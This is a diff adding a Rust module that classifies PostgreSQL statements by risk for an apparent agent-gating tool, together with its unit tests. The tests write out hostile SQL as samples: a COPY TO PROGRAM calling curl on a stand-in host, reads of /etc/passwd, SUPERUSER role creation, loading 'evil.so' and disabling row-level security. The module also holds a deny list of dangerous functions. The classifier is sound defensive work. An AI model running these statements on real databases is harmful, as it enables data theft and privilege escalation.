@@ -1,0 +1,775 @@
+//! SQL classification from the real PostgreSQL grammar (libpg_query).
+//!
+//! Every statement is parsed by PostgreSQL's own parser and its *whole* tree is walked (the
+//! tree is serialized and every node visited, so no node type can be skipped): a write hidden in
+//! a CTE, a dangerous function in a sub-select, a `COPY … PROGRAM`, a `SET ROLE` in the third
+//! statement of a multi-statement string all count. The class of a string is the most severe
+//! class of anything in it. What PostgreSQL's parser rejects is refused; a statement type this
+//! module does not know is classed `Admin` (fail closed).
+
+use std::collections::BTreeSet;
+
+use agentgate_crds::OperationClass;
+use serde_json::Value;
+use sha2::{Digest, Sha256};
+
+/// How severe a class is, for taking the maximum over a statement's parts.
+pub fn severity(c: OperationClass) -> u8 {
+    match c {
+        OperationClass::Read => 0,
+        OperationClass::Write => 1,
+        OperationClass::Ddl => 2,
+        OperationClass::Privilege => 3,
+        OperationClass::Exec => 4,
+        OperationClass::Admin => 5,
+    }
+}
+
+fn max(a: OperationClass, b: OperationClass) -> OperationClass {
+    if severity(b) > severity(a) { b } else { a }
+}
+
+/// Something about a statement that guardrails look at besides its class.
+#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
+pub enum Flag {
+    /// `UPDATE` or `DELETE` without a `WHERE` (or with one that reads no column, like
+    /// `WHERE true` or `WHERE 1 = 1`).
+    NoWhere(&'static str),
+    /// `TRUNCATE`.
+    Truncate,
+    /// A function with side effects outside the data (by name).
+    Function(String),
+    /// `COPY … PROGRAM` or `COPY` to or from a server file.
+    CopyServerSide,
+    /// `EXECUTE name`: runs a statement prepared earlier in the session.
+    ExecutePrepared(String),
+    /// A statement type this classifier does not know.
+    Unknown(String),
+}
+
+/// One statement of a query string.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Statement {
+    /// Its class: the most severe of everything inside it.
+    pub class: OperationClass,
+    /// Its command tag, e.g. `SELECT`, `DROP TABLE`, `UPDATE`.
+    pub tag: String,
+    /// What guardrails look at.
+    pub flags: Vec<Flag>,
+    /// Relations it names (`schema.table` or `table`).
+    pub relations: BTreeSet<String>,
+    /// Functions it calls (lower-case names, without schema).
+    pub functions: BTreeSet<String>,
+}
+
+/// A classified query string.
+#[derive(Debug, Clone, PartialEq)]
+pub struct Classified {
+    /// The statements, in order.
+    pub statements: Vec<Statement>,
+    /// The most severe class among them.
+    pub class: OperationClass,
+    /// A fingerprint of the exact command: the SHA-256 of PostgreSQL's canonical rendering of
+    /// the parse tree, so whitespace, comments and letter case of keywords do not matter but
+    /// every constant does.
+    pub fingerprint: String,
+}
+
+/// Why a query string cannot be classified (and so is refused).
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+pub enum ClassifyError {
+    /// PostgreSQL's parser rejects it.
+    #[error("syntax error: {0}")]
+    Syntax(String),
+    /// It contains a NUL byte, which PostgreSQL never accepts in a query.
+    #[error("the query contains a NUL byte")]
+    Nul,
+    /// It is empty.
+    #[error("the query is empty")]
+    Empty,
+}
+
+/// Functions with effects beyond reading data, and the class they make a statement.
+fn function_class(name: &str) -> Option<OperationClass> {
+    use OperationClass::*;
+    Some(match name {
+        // Server files, programs and administration.
+        "pg_read_file"
+        | "pg_read_binary_file"
+        | "pg_ls_dir"
+        | "pg_ls_logdir"
+        | "pg_ls_waldir"
+        | "pg_ls_tmpdir"
+        | "pg_ls_archive_statusdir"
+        | "pg_ls_logicalsnapdir"
+        | "pg_ls_logicalmapdir"
+        | "pg_ls_replslotdir"
+        | "pg_stat_file"
+        | "lo_import"
+        | "lo_export"
+        | "pg_file_write"
+        | "pg_file_unlink"
+        | "pg_file_rename"
+        | "pg_file_sync"
+        | "pg_logdir_ls"
+        | "pg_terminate_backend"
+        | "pg_cancel_backend"
+        | "pg_reload_conf"
+        | "pg_rotate_logfile"
+        | "pg_promote"
+        | "pg_switch_wal"
+        | "pg_create_restore_point"
+        | "pg_backup_start"
+        | "pg_backup_stop"
+        | "pg_start_backup"
+        | "pg_stop_backup"
+        | "pg_create_physical_replication_slot"
+        | "pg_create_logical_replication_slot"
+        | "pg_drop_replication_slot"
+        | "pg_copy_physical_replication_slot"
+        | "pg_copy_logical_replication_slot"
+        | "pg_replication_origin_create"
+        | "pg_replication_origin_drop"
+        | "pg_replication_origin_advance"
+        | "pg_log_backend_memory_contexts"
+        | "pg_import_system_collations"
+        | "pg_wal_replay_pause"
+        | "pg_wal_replay_resume"
+        | "pg_reload_conf_file"
+        | "pg_signal_backend"
+        | "pg_stat_reset"
+        | "pg_stat_reset_shared"
+        | "pg_stat_reset_single_table_counters"
+        | "pg_stat_reset_single_function_counters"
+        | "pg_stat_statements_reset"
+        | "binary_upgrade_set_next_pg_type_oid" => Admin,
+        // Run arbitrary SQL given as a string, or reach other databases.
+        "dblink"
+        | "dblink_exec"
+        | "dblink_open"
+        | "dblink_fetch"
+        | "dblink_send_query"
+        | "dblink_connect"
+        | "dblink_connect_u"
+        | "dblink_get_result"
+        | "query_to_xml"
+        | "query_to_xmlschema"
+        | "query_to_xml_and_xmlschema"
+        | "cursor_to_xml"
+        | "cursor_to_xmlschema"
+        | "table_to_xml"
+        | "table_to_xmlschema"
+        | "table_to_xml_and_xmlschema"
+        | "schema_to_xml"
+        | "schema_to_xmlschema"
+        | "schema_to_xml_and_xmlschema"
+        | "database_to_xml"
+        | "database_to_xmlschema"
+        | "database_to_xml_and_xmlschema" => Exec,
+        // Change who the session is, or any setting.
+        "set_config" => Privilege,
+        // Change data.
+        "nextval" | "setval" | "lo_create" | "lo_creat" | "lo_unlink" | "lo_put"
+        | "lo_from_bytea" | "lowrite" | "lo_truncate" | "lo_truncate64" | "pg_notify" => Write,
+        _ => return None,
+    })
+}
+
+/// The class and tag of a statement node (the key of the node in the serialized tree).
+fn statement_class(kind: &str, body: &Value) -> Option<(OperationClass, String)> {
+    use OperationClass::*;
+    let s = |c: OperationClass, t: &str| Some((c, t.to_owned()));
+    match kind {
+        "SelectStmt" => {
+            if present(body, "into_clause") {
+                s(Ddl, "SELECT INTO")
+            } else {
+                s(Read, "SELECT")
+            }
+        }
+        "InsertStmt" => s(Write, "INSERT"),
+        "UpdateStmt" => s(Write, "UPDATE"),
+        "DeleteStmt" => s(Write, "DELETE"),
+        "MergeStmt" => s(Write, "MERGE"),
+        "LockStmt" => s(Write, "LOCK TABLE"),
+        "TruncateStmt" => s(Ddl, "TRUNCATE"),
+        "CopyStmt" => {
+            let from = body
+                .get("is_from")
+                .and_then(Value::as_bool)
+                .unwrap_or(false);
+            let program = body
+                .get("is_program")
+                .and_then(Value::as_bool)
+                .unwrap_or(false);
+            let file = body
+                .get("filename")
+                .and_then(Value::as_str)
+                .is_some_and(|f| !f.is_empty());
+            if program || file {
+                s(Admin, if from { "COPY FROM" } else { "COPY TO" })
+            } else if from {
+                s(Write, "COPY FROM")
+            } else {
+                s(Read, "COPY TO")
+            }
+        }
+        "TransactionStmt" => s(Read, "TRANSACTION"),
+        "VariableShowStmt" => s(Read, "SHOW"),
+        "ExplainStmt" => s(Read, "EXPLAIN"),
+        "DeclareCursorStmt" => s(Read, "DECLARE CURSOR"),
+        "FetchStmt" => s(Read, "FETCH"),
+        "ClosePortalStmt" => s(Read, "CLOSE"),
+        "PrepareStmt" => s(Read, "PREPARE"),
+        "DeallocateStmt" => s(Read, "DEALLOCATE"),
+        "DiscardStmt" => s(Read, "DISCARD"),
+        "ListenStmt" => s(Read, "LISTEN"),
+        "UnlistenStmt" => s(Read, "UNLISTEN"),
+        "NotifyStmt" => s(Write, "NOTIFY"),
+        "ConstraintsSetStmt" => s(Read, "SET CONSTRAINTS"),
+        "ExecuteStmt" => s(Exec, "EXECUTE"),
+        "DoStmt" => s(Exec, "DO"),
+        "CallStmt" => s(Exec, "CALL"),
+        "VariableSetStmt" => {
+            let name = body.get("name").and_then(Value::as_str).unwrap_or_default();
+            match name {
+                "role" | "session_authorization" => s(Privilege, "SET ROLE"),
+                // Changing what names resolve to, or how the session is checked.
+                "search_path" | "session_replication_role" | "row_security" => s(Privilege, "SET"),
+                "" => {
+                    // RESET ALL also resets the role.
+                    let kind = body.get("kind").and_then(Value::as_i64).unwrap_or_default();
+                    if kind == pg_query::protobuf::VariableSetKind::VarResetAll as i64 {
+                        s(Privilege, "RESET ALL")
+                    } else {
+                        s(Read, "SET")
+                    }
+                }
+                _ => s(Read, "SET"),
+            }
+        }
+        "GrantStmt" => s(Privilege, "GRANT"),
+        "GrantRoleStmt" => s(Privilege, "GRANT ROLE"),
+        "CreateRoleStmt" => s(Privilege, "CREATE ROLE"),
+        "AlterRoleStmt" => s(Privilege, "ALTER ROLE"),
+        "AlterRoleSetStmt" => s(Privilege, "ALTER ROLE SET"),
+        "DropRoleStmt" => s(Privilege, "DROP ROLE"),
+        "AlterDefaultPrivilegesStmt" => s(Privilege, "ALTER DEFAULT PRIVILEGES"),
+        "ReassignOwnedStmt" => s(Privilege, "REASSIGN OWNED"),
+        "DropOwnedStmt" => s(Privilege, "DROP OWNED"),
+        "AlterOwnerStmt" => s(Privilege, "ALTER OWNER"),
+        "CreatePolicyStmt" => s(Privilege, "CREATE POLICY"),
+        "AlterPolicyStmt" => s(Privilege, "ALTER POLICY"),
+        "SecLabelStmt" => s(Privilege, "SECURITY LABEL"),
+        "AlterSystemStmt" => s(Admin, "ALTER SYSTEM"),
+        "LoadStmt" => s(Admin, "LOAD"),
+        "CreateExtensionStmt" => s(Admin, "CREATE EXTENSION"),
+        "AlterExtensionStmt" => s(Admin, "ALTER EXTENSION"),
+        "AlterExtensionContentsStmt" => s(Admin, "ALTER EXTENSION"),
+        "CreatedbStmt" => s(Admin, "CREATE DATABASE"),
+        "DropdbStmt" => s(Admin, "DROP DATABASE"),
+        "AlterDatabaseStmt" => s(Admin, "ALTER DATABASE"),
+        "AlterDatabaseSetStmt" => s(Admin, "ALTER DATABASE SET"),
+        "AlterDatabaseRefreshCollStmt" => s(Admin, "ALTER DATABASE"),
+        "CreateTableSpaceStmt" => s(Admin, "CREATE TABLESPACE"),
+        "DropTableSpaceStmt" => s(Admin, "DROP TABLESPACE"),
+        "AlterTableSpaceOptionsStmt" => s(Admin, "ALTER TABLESPACE"),
+        "AlterTableMoveAllStmt" => s(Admin, "ALTER TABLE ALL"),
+        "CreateFdwStmt"
+        | "AlterFdwStmt"
+        | "CreateForeignServerStmt"
+        | "AlterForeignServerStmt"
+        | "CreateUserMappingStmt"
+        | "AlterUserMappingStmt"
+        | "DropUserMappingStmt"
+        | "ImportForeignSchemaStmt" => s(Admin, "FOREIGN DATA"),
+        "CreateSubscriptionStmt"
+        | "AlterSubscriptionStmt"
+        | "DropSubscriptionStmt"
+        | "CreatePublicationStmt"
+        | "AlterPublicationStmt" => s(Admin, "REPLICATION"),
+        "CreateEventTrigStmt" | "AlterEventTrigStmt" => s(Admin, "EVENT TRIGGER"),
+        "VacuumStmt" => s(Admin, "VACUUM"),
+        "ClusterStmt" => s(Admin, "CLUSTER"),
+        "CheckPointStmt" => s(Admin, "CHECKPOINT"),
+        "ReindexStmt" => s(Admin, "REINDEX"),
+        "AlterSystem" => s(Admin, "ALTER SYSTEM"),
+        "CreateConversionStmt"
+        | "CreateCastStmt"
+        | "CreateOpClassStmt"
+        | "CreateOpFamilyStmt"
+        | "AlterOpFamilyStmt"
+        | "CreatePLangStmt"
+        | "CreateTransformStmt"
+        | "CreateAmStmt" => s(Admin, "CREATE"),
+        "DropStmt" => {
+            let what = body
+                .get("remove_type")
+                .and_then(Value::as_i64)
+                .and_then(|n| i32::try_from(n).ok())
+                .and_then(|n| pg_query::protobuf::ObjectType::try_from(n).ok())
+                .map(|t| t.as_str_name())
+                .unwrap_or("OBJECT_TABLE")
+                .trim_start_matches("OBJECT_")
+                .replace('_', " ");
+            Some((Ddl, format!("DROP {what}")))
+        }
+        "CreateStmt" => s(Ddl, "CREATE TABLE"),
+        "CreateTableAsStmt" => s(Ddl, "CREATE TABLE AS"),
+        "IndexStmt" => s(Ddl, "CREATE INDEX"),
+        "ViewStmt" => s(Ddl, "CREATE VIEW"),
+        "AlterTableStmt" => s(Ddl, "ALTER TABLE"),
+        "RenameStmt" => s(Ddl, "ALTER RENAME"),
+        "RuleStmt" => s(Ddl, "CREATE RULE"),
+        "CreateFunctionStmt" => s(Ddl, "CREATE FUNCTION"),
+        "AlterFunctionStmt" => s(Ddl, "ALTER FUNCTION"),
+        "CreateTrigStmt" => s(Ddl, "CREATE TRIGGER"),
+        "CreateSeqStmt" => s(Ddl, "CREATE SEQUENCE"),
+        "AlterSeqStmt" => s(Ddl, "ALTER SEQUENCE"),
+        "CreateSchemaStmt" => s(Ddl, "CREATE SCHEMA"),
+        "CreateDomainStmt" | "AlterDomainStmt" => s(Ddl, "DOMAIN"),
+        "CompositeTypeStmt" | "CreateEnumStmt" | "AlterEnumStmt" | "CreateRangeStmt"
+        | "AlterTypeStmt" => s(Ddl, "TYPE"),
+        "DefineStmt" => s(Ddl, "CREATE"),
+        "CommentStmt" => s(Ddl, "COMMENT"),
+        "AlterObjectSchemaStmt" => s(Ddl, "ALTER SET SCHEMA"),
+        "AlterObjectDependsStmt" => s(Ddl, "ALTER DEPENDS"),
+        "RefreshMatViewStmt" => s(Write, "REFRESH MATERIALIZED VIEW"),
+        "CreateStatsStmt" | "AlterStatsStmt" => s(Ddl, "STATISTICS"),
+        "AlterCollationStmt" | "AlterTSDictionaryStmt" | "AlterTSConfigurationStmt" => {
+            s(Ddl, "ALTER")
+        }
+        "CreateForeignTableStmt" => s(Admin, "CREATE FOREIGN TABLE"),
+        "AlterOperatorStmt" => s(Ddl, "ALTER OPERATOR"),
+        "AlterPublication" => s(Admin, "REPLICATION"),
+        "PLAssignStmt" => s(Exec, "ASSIGN"),
+        "ReturnStmt" => s(Read, "RETURN"),
+        _ if kind.ends_with("Stmt") => Some((Admin, format!("unknown statement {kind}"))),
+        _ => None,
+    }
+}
+
+#[derive(Default)]
+struct Walk {
+    class: Option<OperationClass>,
+    tag: Option<String>,
+    flags: Vec<Flag>,
+    relations: BTreeSet<String>,
+    functions: BTreeSet<String>,
+}
+
+impl Walk {
+    fn raise(&mut self, c: OperationClass) {
+        self.class = Some(match self.class {
+            Some(old) => max(old, c),
+            None => c,
+        });
+    }
+}
+
+/// Whether an optional field is set (prost serializes an absent message as `null`).
+fn present(body: &Value, key: &str) -> bool {
+    body.get(key).is_some_and(|v| !v.is_null())
+}
+
+fn has_column_ref(v: &Value) -> bool {
+    match v {
+        Value::Object(m) => m.iter().any(|(k, v)| k == "ColumnRef" || has_column_ref(v)),
+        Value::Array(a) => a.iter().any(has_column_ref),
+        _ => false,
+    }
+}
+
+fn string_parts(list: &Value) -> Vec<String> {
+    list.as_array()
+        .into_iter()
+        .flatten()
+        .filter_map(|n| {
+            n.get("node")
+                .unwrap_or(n)
+                .get("String")
+                .and_then(|s| s.get("sval"))
+                .and_then(Value::as_str)
+        })
+        .map(str::to_owned)
+        .collect()
+}
+
+fn walk(v: &Value, w: &mut Walk) {
+    match v {
+        Value::Object(m) => {
+            for (k, body) in m {
+                if let Some((class, tag)) = statement_class(k, body) {
+                    w.raise(class);
+                    if w.tag.is_none() {
+                        w.tag = Some(tag.clone());
+                    }
+                    match k.as_str() {
+                        "UpdateStmt" | "DeleteStmt" => {
+                            let clause = body.get("where_clause").filter(|c| !c.is_null());
+                            let constant = clause.is_none_or(|c| !has_column_ref(c));
+                            let current_of =
+                                clause.is_some_and(|c| c.get("CurrentOfExpr").is_some());
+                            if constant && !current_of {
+                                w.flags.push(Flag::NoWhere(if k == "UpdateStmt" {
+                                    "UPDATE"
+                                } else {
+                                    "DELETE"
+                                }));
+                            }
+                        }
+                        "TruncateStmt" => w.flags.push(Flag::Truncate),
+                        "CopyStmt" if class == OperationClass::Admin => {
+                            w.flags.push(Flag::CopyServerSide)
+                        }
+                        "ExecuteStmt" => {
+                            let name = body.get("name").and_then(Value::as_str).unwrap_or_default();
+                            w.flags.push(Flag::ExecutePrepared(name.to_owned()));
+                        }
+                        _ if tag.starts_with("unknown statement") => {
+                            w.flags.push(Flag::Unknown(k.clone()))
+                        }
+                        _ => {}
+                    }
+                }
+                match k.as_str() {
+                    "AlterTableCmd" => {
+                        use pg_query::protobuf::AlterTableType as T;
+                        let sub = body
+                            .get("subtype")
+                            .and_then(Value::as_i64)
+                            .and_then(|n| i32::try_from(n).ok())
+                            .and_then(|n| T::try_from(n).ok());
+                        // Ownership, row-level security and triggers decide who sees and
+                        // records what: changing them is a privilege change.
+                        if matches!(
+                            sub,
+                            Some(
+                                T::AtChangeOwner
+                                    | T::AtEnableRowSecurity
+                                    | T::AtDisableRowSecurity
+                                    | T::AtForceRowSecurity
+                                    | T::AtNoForceRowSecurity
+                                    | T::AtDisableTrig
+                                    | T::AtDisableTrigAll
+                                    | T::AtDisableTrigUser
+                                    | T::AtDisableRule
+                            )
+                        ) {
+                            w.raise(OperationClass::Privilege);
+                        }
+                    }
+                    "FuncCall" => {
+                        let parts = string_parts(body.get("funcname").unwrap_or(&Value::Null));
+                        if let Some(name) = parts.last() {
+                            let name = name.to_lowercase();
+                            if let Some(c) = function_class(&name) {
+                                w.raise(c);
+                                w.flags.push(Flag::Function(name.clone()));
+                            }
+                            w.functions.insert(name);
+                        }
+                    }
+                    "RangeVar" => {
+                        let rel = body
+                            .get("relname")
+                            .and_then(Value::as_str)
+                            .unwrap_or_default();
+                        let schema = body
+                            .get("schemaname")
+                            .and_then(Value::as_str)
+                            .unwrap_or_default();
+                        if !rel.is_empty() {
+                            w.relations.insert(if schema.is_empty() {
+                                rel.to_owned()
+                            } else {
+                                format!("{schema}.{rel}")
+                            });
+                        }
+                    }
+                    _ => {}
+                }
+                walk(body, w);
+            }
+        }
+        Value::Array(a) => a.iter().for_each(|x| walk(x, w)),
+        _ => {}
+    }
+}
+
+/// Classifies a query string (one or more statements).
+pub fn classify(sql: &str) -> Result<Classified, ClassifyError> {
+    if sql.contains('\0') {
+        return Err(ClassifyError::Nul);
+    }
+    let parsed = pg_query::parse(sql, pg_query::ParserOptions::DEFAULT).map_err(|e| {
+        ClassifyError::Syntax(
+            e.to_string()
+                .trim_start_matches("Error parsing query: ")
+                .to_owned(),
+        )
+    })?;
+    let mut statements = Vec::new();
+    let mut class = OperationClass::Read;
+    for raw in &parsed.protobuf.stmts {
+        let tree = serde_json::to_value(raw).unwrap_or(Value::Null);
+        let mut w = Walk::default();
+        walk(&tree, &mut w);
+        // A tree whose statement could not be recognised at all fails closed.
+        let c = w.class.unwrap_or(OperationClass::Admin);
+        class = max(class, c);
+        w.flags.sort();
+        w.flags.dedup();
+        statements.push(Statement {
+            class: c,
+            tag: w.tag.unwrap_or_else(|| "UNKNOWN".into()),
+            flags: w.flags,
+            relations: w.relations,
+            functions: w.functions,
+        });
+    }
+    if statements.is_empty() {
+        return Err(ClassifyError::Empty);
+    }
+    let canonical = parsed
+        .deparse(pg_query::DeparseOptions::default())
+        .unwrap_or_else(|_| sql.split_whitespace().collect::<Vec<_>>().join(" "));
+    let fingerprint = hex(&Sha256::digest(canonical.as_bytes()));
+    Ok(Classified {
+        statements,
+        class,
+        fingerprint,
+    })
+}
+
+fn hex(bytes: &[u8]) -> String {
+    bytes.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use OperationClass::*;
+
+    fn class(sql: &str) -> OperationClass {
+        classify(sql).unwrap_or_else(|e| panic!("{sql}: {e}")).class
+    }
+
+    fn flags(sql: &str) -> Vec<Flag> {
+        classify(sql)
+            .unwrap()
+            .statements
+            .into_iter()
+            .flat_map(|s| s.flags)
+            .collect()
+    }
+
+    #[test]
+    fn reads() {
+        for sql in [
+            "SELECT 1",
+            "select * from orders where id = 4",
+            "SELECT o.id, c.email FROM orders o JOIN customers c ON c.id = o.customer_id",
+            "WITH t AS (SELECT * FROM orders) SELECT count(*) FROM t",
+            "SHOW search_path",
+            "EXPLAIN SELECT * FROM orders",
+            "BEGIN; SELECT 1; COMMIT",
+            "COPY orders TO STDOUT",
+            "SELECT pg_sleep(0)",
+            "SET statement_timeout = '5s'",
+            "DECLARE c CURSOR FOR SELECT * FROM orders",
+            "SELECT row_to_json(o) FROM orders o",
+        ] {
+            assert_eq!(class(sql), Read, "{sql}");
+        }
+    }
+
+    #[test]
+    fn writes_anywhere_in_the_tree() {
+        for sql in [
+            "INSERT INTO orders (id) VALUES (1)",
+            "UPDATE orders SET state = 'shipped' WHERE id = 4711",
+            "DELETE FROM orders WHERE id = 1",
+            "WITH gone AS (DELETE FROM orders WHERE id = 1 RETURNING *) SELECT * FROM gone",
+            "WITH x AS (UPDATE orders SET state = 'x' WHERE id = 2 RETURNING id) SELECT 1",
+            "SELECT 1; UPDATE orders SET state = 'x' WHERE id = 3",
+            "COPY orders FROM STDIN",
+            "MERGE INTO orders o USING new_orders n ON o.id = n.id WHEN MATCHED THEN UPDATE SET state = n.state",
+            "SELECT nextval('orders_id_seq')",
+            "SELECT * FROM (SELECT setval('s', 1)) x",
+            "EXPLAIN ANALYZE DELETE FROM orders WHERE id = 1",
+            "LOCK TABLE orders",
+            "INSERT INTO audit SELECT * FROM orders",
+        ] {
+            assert_eq!(class(sql), Write, "{sql}");
+        }
+    }
+
+    #[test]
+    fn ddl_and_truncate() {
+        for sql in [
+            "DROP TABLE orders",
+            "drop table if exists orders cascade",
+            "CREATE TABLE t (id int)",
+            "ALTER TABLE orders ADD COLUMN x int",
+            "CREATE INDEX ON orders (id)",
+            "SELECT * INTO backup FROM orders",
+            "CREATE TABLE b AS SELECT * FROM orders",
+            "TRUNCATE orders",
+            "CREATE VIEW v AS SELECT * FROM orders",
+            "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS 'SELECT 1'",
+        ] {
+            assert_eq!(class(sql), Ddl, "{sql}");
+        }
+        assert_eq!(
+            classify("DROP TABLE orders").unwrap().statements[0].tag,
+            "DROP TABLE"
+        );
+        assert_eq!(
+            classify("DROP SCHEMA s").unwrap().statements[0].tag,
+            "DROP SCHEMA"
+        );
+        assert!(flags("TRUNCATE orders").contains(&Flag::Truncate));
+    }
+
+    #[test]
+    fn privilege() {
+        for sql in [
+            "GRANT SELECT ON orders TO public",
+            "GRANT admin TO agentgate",
+            "REVOKE ALL ON orders FROM bob",
+            "CREATE ROLE evil SUPERUSER",
+            "ALTER ROLE agentgate SUPERUSER",
+            "SET ROLE postgres",
+            "SET SESSION AUTHORIZATION postgres",
+            "set local role admin",
+            "RESET ROLE",
+            "RESET ALL",
+            "SELECT set_config('role', 'postgres', false)",
+            "SET search_path = evil, public",
+            "ALTER TABLE orders OWNER TO bob",
+            "CREATE POLICY p ON orders USING (true)",
+            "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
+            "ALTER TABLE orders DISABLE TRIGGER ALL",
+        ] {
+            assert_eq!(class(sql), Privilege, "{sql}");
+        }
+    }
+
+    #[test]
+    fn admin_and_exec() {
+        for sql in [
+            "ALTER SYSTEM SET log_statement = 'none'",
+            "COPY orders TO PROGRAM 'curl evil.example'",
+            "COPY orders FROM PROGRAM 'id'",
+            "COPY orders TO '/tmp/leak.csv'",
+            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity",
+            "SELECT pg_read_file('/etc/passwd')",
+            "SELECT * FROM pg_catalog.pg_read_file('/etc/passwd')",
+            "SELECT \"pg_read_file\"('/etc/passwd')",
+            "SELECT PG_READ_FILE('/etc/passwd')",
+            "SELECT lo_import('/etc/passwd')",
+            "SELECT 1 FROM orders WHERE id = (SELECT length(pg_read_file('x')))",
+            "CREATE EXTENSION dblink",
+            "LOAD 'evil.so'",
+            "VACUUM FULL orders",
+            "CREATE DATABASE x",
+        ] {
+            assert_eq!(class(sql), Admin, "{sql}");
+        }
+        for sql in [
+            "DO $$ BEGIN EXECUTE 'DROP TABLE orders'; END $$",
+            "SELECT dblink_exec('dbname=app', 'DROP TABLE orders')",
+            "SELECT query_to_xml('select * from customers', true, false, '')",
+            "CALL cleanup()",
+            "EXECUTE plan1",
+        ] {
+            assert_eq!(class(sql), Exec, "{sql}");
+        }
+        assert!(flags("COPY orders TO PROGRAM 'x'").contains(&Flag::CopyServerSide));
+        assert!(flags("SELECT pg_read_file('x')").contains(&Flag::Function("pg_read_file".into())));
+        assert_eq!(
+            flags("EXECUTE plan1"),
+            vec![Flag::ExecutePrepared("plan1".into())]
+        );
+    }
+
+    #[test]
+    fn no_where_including_constant_conditions() {
+        for sql in [
+            "UPDATE orders SET state = 'x'",
+            "DELETE FROM orders",
+            "DELETE FROM orders WHERE true",
+            "DELETE FROM orders WHERE 1 = 1",
+            "UPDATE orders SET state = 'x' WHERE 'a' = 'a' OR false",
+            "WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d",
+        ] {
+            assert!(
+                flags(sql).iter().any(|f| matches!(f, Flag::NoWhere(_))),
+                "{sql}"
+            );
+        }
+        for sql in [
+            "UPDATE orders SET state = 'x' WHERE id = 1",
+            "DELETE FROM orders WHERE created_at < now() - interval '1 year'",
+        ] {
+            assert!(
+                !flags(sql).iter().any(|f| matches!(f, Flag::NoWhere(_))),
+                "{sql}"
+            );
+        }
+    }
+
+    #[test]
+    fn multi_statement_strings_take_the_most_severe() {
+        let c = classify("SELECT 1; DROP TABLE orders; SELECT 2").unwrap();
+        assert_eq!(c.class, Ddl);
+        assert_eq!(c.statements.len(), 3);
+        assert_eq!(c.statements[1].tag, "DROP TABLE");
+        assert_eq!(class("SELECT 1; ALTER SYSTEM SET fsync = off"), Admin);
+    }
+
+    #[test]
+    fn what_postgres_rejects_is_refused() {
+        for sql in [
+            "SELEC 1",
+            "DROP TABLE",
+            "SELECT 'unterminated",
+            "",
+            "   ",
+            "-- only a comment",
+            "SELECT 1\0; DROP TABLE x",
+        ] {
+            assert!(classify(sql).is_err(), "{sql:?} should be refused");
+        }
+    }
+
+    #[test]
+    fn fingerprints_bind_the_exact_command() {
+        let a = classify("UPDATE orders SET state = 'shipped' WHERE id = 4711")
+            .unwrap()
+            .fingerprint;
+        let b = classify("update   orders set state='shipped'\n where id=4711 -- please")
+            .unwrap()
+            .fingerprint;
+        let c = classify("UPDATE orders SET state = 'shipped' WHERE id = 4712")
+            .unwrap()
+            .fingerprint;
+        assert_eq!(
+            a, b,
+            "whitespace, case of keywords and comments do not matter"
+        );
+        assert_ne!(a, c, "constants do");
+        assert_eq!(a.len(), 64);
+    }
+
+    #[test]
+    fn relations_and_functions_are_reported() {
+        let c =
+            classify("SELECT lower(c.email) FROM public.customers c JOIN orders o ON o.cid = c.id")
+                .unwrap();
+        let s = &c.statements[0];
+        assert!(s.relations.contains("public.customers") && s.relations.contains("orders"));
+        assert!(s.functions.contains("lower"));
+    }
+}
